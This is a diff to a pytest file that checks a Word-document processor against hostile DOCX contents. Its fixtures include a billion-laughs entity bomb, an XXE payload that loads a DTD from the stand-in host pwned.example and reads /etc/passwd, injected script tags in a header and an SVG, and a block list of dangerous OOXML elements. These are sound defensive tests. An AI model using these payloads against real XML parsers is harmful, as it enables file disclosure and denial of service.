@@ -17,7 +17,7 @@ from brief.problem import errors
 from brief.render import render
 from brief.style import read_style
 from letterhead_attacks import FILES, HEADERS, SPACES, STYLES, beside, headed
-from letterheads import MAIN, OFFICE, W, picture, raw
+from letterheads import OFFICE, W, picture, raw
 from trees import every_node
 
 if TYPE_CHECKING:
@@ -30,8 +30,8 @@ PARTS = re.compile(
     r"\[Content_Types\]\.xml|(_rels|docProps)/[\w.]+|word/(document|styles|theme/theme1|theme|numbering|settings|fontTable"
     r"|footnotes|header[\w-]*|footer[\w-]*)\.xml|word/_rels/[\w-]+\.xml\.rels|word/media/[\w.]+"
 )
-FORBIDDEN = ("altChunk", "subDoc", "object", "OLEObject", "control", "attachedTemplate", "mailMerge", "frameset", "ffData",
-             "dataBinding", "numPicBullet", "binData")  # fmt: skip
+FORBIDDEN = ("altChunk", "subDoc", "object", "OLEObject", "control", "attachedTemplate", "mailMerge", "frameset",
+             "ffData", "dataBinding", "numPicBullet", "binData")  # fmt: skip
 SHOWN = ("PAGE", "NUMPAGES", "TOC", "PAGEREF", "REF", "STYLEREF", "HYPERLINK", "NOTEREF")
 
 
@@ -71,9 +71,7 @@ def dangers(content: bytes) -> list[str]:
 
 
 def _dangers(root: etree._Element) -> list[str]:
-    found = []
-    for element in root.getroottree().getroot().itersiblings(preceding=True):
-        found.append(str(element))
+    found = [str(element) for element in root.itersiblings(preceding=True)]
     for element in root.iter():
         if not isinstance(element.tag, str):
             found.append(str(element))
@@ -126,8 +124,8 @@ def test_links_pictures_and_fields_that_only_show_stay(tmp_path: Path) -> None:
 
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
 OUTSIDE = '<!DOCTYPE x SYSTEM "https://pwned.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
-ANYWHERE = ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml",
-            "word/header1.xml")  # fmt: skip
+ANYWHERE = ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
+            "word/styles.xml", "word/header1.xml")  # fmt: skip
 
 
 @pytest.mark.parametrize("way", WAYS)
@@ -151,8 +149,7 @@ def test_a_document_type_is_told_with_file_and_part(part: str, declared: str, wa
         raw({"styles": '<styles xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
         raw({"styles": STYLES, "header1": "<html><script>pwned</script></html>"}),
         raw({"styles": STYLES, "theme": f"<w:document {W}/>"}),
-        beside("", {"word/_rels/document.xml.rels": f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship '
-               f'Id="a" Type="x/styles" Target="styles.bin"/></Relationships>', "word/styles.bin": b"no XML"}),
+        beside('<Relationship Id="a" Type="x/header" Target="header.bin"/>', {"word/header.bin": b"no XML"}),
     ],
     ids=["another root", "strict", "a page", "another theme", "another ending"],
 )  # fmt: skip
@@ -204,7 +201,7 @@ def test_numbers_that_no_word_writes_are_left_out(number: str, way: str, tmp_pat
 
 
 SHOWING = (
-    f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{OFFICE}/drawingml/2006/wordprocessingDrawing"><a:graphic><a:graphicData>'
+    "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>"
     '<a:blip r:embed="p"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
 )
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://pwned.example/x"/><script>pwned</script></svg>'
